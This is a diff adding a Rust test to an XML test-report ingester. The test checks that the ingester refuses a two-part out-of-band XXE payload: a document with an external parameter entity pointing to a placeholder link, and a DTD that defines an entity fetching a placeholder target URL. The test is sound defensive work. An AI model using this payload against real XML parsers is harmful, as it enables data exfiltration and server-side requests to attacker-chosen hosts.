@@ -136,6 +136,36 @@ fn undefined_entities_and_invalid_utf8_are_errors() {
 }
 
 #[test]
+fn an_xxe_attempt_is_refused_as_an_entity_declaration() {
+    // The two halves of an out-of-band XXE, as in the shared corpus's invalid/: a document
+    // whose DOCTYPE pulls in an external DTD, and that DTD. Neither is read as a report.
+    let external_entity = r#"<?xml version="1.0" encoding="ISO-8859-1"?>
+<!DOCTYPE r [
+<!ELEMENT r ANY >
+<!ENTITY % sp SYSTEM "$OOB_LINK$">
+%sp;
+%param1;
+]>
+<r>&oob;</r>
+<xyz timestamp="2010-07-23T20:34:59.300" version="4.2.5">
+    <file name="doesntreallymatterwhatsinhere">
+    </file>
+</xyz>
+"#;
+    let oob_dtd = r#"<!ENTITY % param1 "<!ENTITY oob SYSTEM '$TARGET_URL$'>">
+"#;
+    for (name, doc) in [
+        ("invalid/xxe-external-entity.xml", external_entity),
+        ("invalid/xxe-oob-dtd.xml", oob_dtd),
+    ] {
+        // Read as a stream, as the files were.
+        let stream = Cursor::new(doc.as_bytes());
+        let err = cimetrics_ingest::summarize(stream, &Options::default()).unwrap_err();
+        assert_eq!(err.kind(), &ErrorKind::EntityDeclaration, "{name}: {err}");
+    }
+}
+
+#[test]
 fn nan_and_infinite_durations_are_errors_and_negative_ones_warn() {
     for t in ["NaN", "inf", "-inf"] {
         let doc = format!("<testsuite><testcase name=\"a\" time=\"{t}\"/></testsuite>");
